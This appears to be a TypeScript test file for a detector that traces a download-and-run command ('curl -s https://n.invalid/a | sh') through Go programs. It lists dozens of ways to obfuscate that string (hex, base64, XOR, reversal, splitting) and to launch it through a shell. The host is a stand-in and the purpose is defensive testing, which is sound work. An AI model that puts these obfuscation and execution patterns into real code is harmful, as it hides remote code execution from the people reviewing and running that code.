import { commandOf, follows } from "../../testing/followed.js";

const {
  whole: COMMAND,
  halves: [FIRST, LAST],
  turned: TURNED,
  codes: CODES,
  hex: HEX,
  base64: BASE64,
} = commandOf("curl -s https://n.inv", "alid/a | sh");
const QUOTED = `"${COMMAND}"`;

const MARK = "\n---\n";

/** A program with these statements. */
const inMain = (statements: string, imports = '"os/exec"') =>
  `package main\nimport (${imports})\nfunc main() {\n\t${statements}\n}\n`;

/** Each leaves the command in `text`. */
const PROGRAMS = [
  `text := "${FIRST}" + "${LAST}"`,
  `var text string = "${FIRST}" + "${LAST}"`,
  `var text = "${FIRST}" + "${LAST}"`,
  `text := "${FIRST}"\n\ttext += "${LAST}"`,
  `a, b := "${FIRST}", "${LAST}"\n\ttext := a + b`,
  `text := fmt.Sprintf("%s%s", "${FIRST}", "${LAST}")`,
  `text := strings.Join([]string{"${FIRST}", "${LAST}"}, "")`,
  `parts := []string{"${FIRST}", "${LAST}"}\n\ttext := parts[0] + parts[1]`,
  `parts := []string{}\n\tparts = append(parts, "${FIRST}")\n\tparts = append(parts, "${LAST}")\n\ttext := strings.Join(parts, "")`,
  `parts := map[string]string{"a": "${FIRST}", "b": "${LAST}"}\n\ttext := parts["a"] + parts["b"]`,
  `parts := map[string]string{}\n\tparts["a"] = "${FIRST}"\n\ttext := parts["a"] + "${LAST}"`,
  `parts := make([]string, 2)\n\tparts[0] = "${FIRST}"\n\tparts[1] = "${LAST}"\n\ttext := strings.Join(parts, "")`,
  `text := ""\n\tfor _, p := range []string{"${FIRST}", "${LAST}"} {\n\t\ttext += p\n\t}`,
  `text := ""\n\tparts := []string{"${FIRST}", "${LAST}"}\n\tfor n := 0; n < len(parts); n++ {\n\t\ttext += parts[n]\n\t}`,
  `var b strings.Builder\n\tb.WriteString("${FIRST}")\n\tb.WriteString("${LAST}")\n\ttext := b.String()`,
  `var b bytes.Buffer\n\tb.WriteString("${FIRST}")\n\tb.WriteString("${LAST}")\n\ttext := b.String()`,
  `b := new(strings.Builder)\n\tfmt.Fprintf(b, "%s%s", "${FIRST}", "${LAST}")\n\ttext := b.String()`,
  `b := bytes.NewBufferString("${FIRST}")\n\tb.WriteString("${LAST}")\n\ttext := b.String()`,
  `raw, _ := hex.DecodeString("${HEX}")\n\ttext := string(raw)`,
  `raw, _ := base64.StdEncoding.DecodeString("${BASE64}")\n\ttext := string(raw)`,
  `text := string([]byte{${CODES.join(", ")}})`,
  `raw := []byte{${CODES.map((one) => one ^ 7).join(", ")}}\n\tfor i := range raw {\n\t\traw[i] ^= 7\n\t}\n\ttext := string(raw)`,
  `raw := []byte{${CODES.map((one) => one ^ 7).join(", ")}}\n\tout := make([]byte, len(raw))\n\tfor i, c := range raw {\n\t\tout[i] = c ^ 7\n\t}\n\ttext := string(out)`,
  `text := ""\n\tfor _, c := range []int{${CODES.join(", ")}} {\n\t\ttext += string(rune(c))\n\t}`,
  `text := ""\n\tfor _, c := range "${TURNED}" {\n\t\ttext = string(c) + text\n\t}`,
  `r := []rune("${TURNED}")\n\tfor i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {\n\t\tr[i], r[j] = r[j], r[i]\n\t}\n\ttext := string(r)`,
  `text := strings.Replace("${FIRST}#${LAST}", "#", "", 1)`,
  `text := strings.ReplaceAll("${FIRST}#${LAST}", "#", "")`,
  `text := strings.Join(strings.Split("${FIRST}#${LAST}", "#"), "")`,
  `text := strings.ToLower("${COMMAND.toUpperCase()}")`,
  `text := strings.TrimPrefix("##${COMMAND}", "##")`,
  `text := strings.Trim("##${COMMAND}##", "#")`,
  `text := "##${COMMAND}"[2:]`,
  `text := strings.NewReplacer("X", "l", "Y", "r").Replace("cuYX -s https://n.invalid/a | sh")`,
  `func make2(a string) string {\n\treturn a + "${LAST}"\n}\n---\ntext := make2("${FIRST}")`,
  `func make2() string {\n\treturn "${FIRST}" + "${LAST}"\n}\n---\ntext := make2()`,
  `func make2(a string) (string, error) {\n\treturn a + "${LAST}", nil\n}\n---\ntext, _ := make2("${FIRST}")`,
  `type N struct {\n\ta string\n\tb string\n}\n---\nn := N{a: "${FIRST}", b: "${LAST}"}\n\ttext := n.a + n.b`,
  `type N struct {\n\ta, b string\n}\n---\nn := N{"${FIRST}", "${LAST}"}\n\ttext := n.a + n.b`,
  `type N struct {\n\ta string\n}\n\nfunc (n N) made() string {\n\treturn n.a + "${LAST}"\n}\n---\ntext := N{a: "${FIRST}"}.made()`,
  `const a = "${FIRST}"\nconst b = "${LAST}"\n---\ntext := a + b`,
  `const (\n\ta = "${FIRST}"\n\tb = "${LAST}"\n)\n---\ntext := a + b`,
  `var (\n\ta = "${FIRST}"\n\tb = "${LAST}"\n)\n---\ntext := a + b`,
  `f := func(a string) string {\n\t\treturn a + "${LAST}"\n\t}\n\ttext := f("${FIRST}")`,
  `text := func() string {\n\t\treturn "${FIRST}" + "${LAST}"\n\t}()`,
  `os.Setenv("A", "${FIRST}")\n\ttext := os.Getenv("A") + "${LAST}"`,
  `var text string\n\tif true {\n\t\ttext = "${FIRST}" + "${LAST}"\n\t}`,
  `var text string\n\tswitch {\n\tcase true:\n\t\ttext = "${FIRST}" + "${LAST}"\n\t}`,
  `text := string(append([]byte("${FIRST}"), "${LAST}"...))`,
  `text := "\\x63\\x75rl -s https://n.invalid/a | sh"`,
  `text := "\\u0063url -s https://n.invalid/a | sh"`,
  `text := \`${FIRST}\` + "${LAST}"`,
  `text := fmt.Sprint("${FIRST}", "${LAST}")`,
  `text := strings.Repeat("c", 1) + "url -s https://n.invalid/a | sh"`,
  `text := strings.Fields("${FIRST.split(" ").join(" ")}")[0] + " -s https://n.invalid/a | sh"`,
  `p := &[]string{"${FIRST}", "${LAST}"}\n\ttext := (*p)[0] + (*p)[1]`,
  `ch := make(chan string, 1)\n\tch <- "${FIRST}" + "${LAST}"\n\ttext := <-ch`,
];

/** Each runs the command. */
const STARTS = [
  inMain(`exec.Command("sh", "-c", ${QUOTED}).Run()`),
  inMain(`exec.Command("bash", "-c", ${QUOTED}).Start()`),
  inMain(`exec.Command("/bin/sh", "-c", ${QUOTED}).Output()`),
  inMain(`exec.Command("sh", "-c", ${QUOTED}).CombinedOutput()`),
  inMain(`cmd := exec.Command("sh", "-c", ${QUOTED})\n\tcmd.Run()`),
  inMain(`cmd := exec.Command("sh")\n\tcmd.Args = []string{"sh", "-c", ${QUOTED}}\n\tcmd.Run()`),
  inMain(
    `cmd := exec.Command("sh")\n\tcmd.Stdin = strings.NewReader(${QUOTED})\n\tcmd.Run()`,
    '"os/exec"; "strings"',
  ),
  inMain(`exec.CommandContext(context.Background(), "sh", "-c", ${QUOTED}).Run()`, '"os/exec"; "context"'),
  inMain(`args := []string{"-c", ${QUOTED}}\n\texec.Command("sh", args...).Run()`),
  inMain(`name := "sh"\n\texec.Command(name, "-c", ${QUOTED}).Run()`),
  inMain(`exec.Command("s"+"h", "-c", ${QUOTED}).Run()`),
  inMain(`cmd := &exec.Cmd{Path: "/bin/sh", Args: []string{"sh", "-c", ${QUOTED}}}\n\tcmd.Run()`),
  inMain(`syscall.Exec("/bin/sh", []string{"sh", "-c", ${QUOTED}}, nil)`, '"syscall"'),
  inMain(`os.StartProcess("/bin/sh", []string{"sh", "-c", ${QUOTED}}, &os.ProcAttr{})`, '"os"'),
  inMain(`go exec.Command("sh", "-c", ${QUOTED}).Run()`),
  inMain(`defer exec.Command("sh", "-c", ${QUOTED}).Run()`),
  inMain(`run := exec.Command\n\trun("sh", "-c", ${QUOTED}).Run()`),
  inMain(`func(c string) {\n\t\texec.Command("sh", "-c", c).Run()\n\t}(${QUOTED})`),
  inMain(`if err := exec.Command("sh", "-c", ${QUOTED}).Run(); err != nil {\n\t\tpanic(err)\n\t}`),
  inMain(`out, _ := exec.Command("sh", "-c", ${QUOTED}).Output()\n\t_ = out`),
  inMain(
    `os.WriteFile("/tmp/n.sh", []byte(${QUOTED}), 0755)\n\texec.Command("/tmp/n.sh").Run()`,
    '"os"; "os/exec"',
  ),
  inMain(
    `os.WriteFile("/tmp/n.sh", []byte(${QUOTED}), 0755)\n\texec.Command("sh", "/tmp/n.sh").Run()`,
    '"os"; "os/exec"',
  ),
  `package main\nimport e "os/exec"\nfunc main() {\n\te.Command("sh", "-c", ${QUOTED}).Run()\n}\n`,
  `package main\nimport "os/exec"\nfunc init() {\n\texec.Command("sh", "-c", ${QUOTED}).Run()\n}\n`,
  `package main\nimport "os/exec"\nvar _ = exec.Command("sh", "-c", ${QUOTED}).Run()\n`,
  `package main\nimport "os/exec"\nfunc run(c string) {\n\texec.Command("sh", "-c", c).Run()\n}\nfunc main() {\n\trun(${QUOTED})\n}\n`,
  `package main\nimport "os/exec"\ntype N struct{}\nfunc (n N) run(c string) {\n\texec.Command("sh", "-c", c).Run()\n}\nfunc main() {\n\tN{}.run(${QUOTED})\n}\n`,
];

follows("go", {
  itself: `package main
import "os/exec"
func main() {
	exec.Command("sh", "-c", "${COMMAND}").Run()
}
`,
  run: (program) => {
    // Before the mark are declarations, and after it statements.
    const [declared = "", statements] = program.includes(MARK) ? program.split(MARK) : ["", program];
    return `package main
import "os/exec"
${declared}
func main() {
	${statements}
	exec.Command("sh", "-c", text).Run()
}
`;
  },
  programs: PROGRAMS,
  starts: STARTS,
});
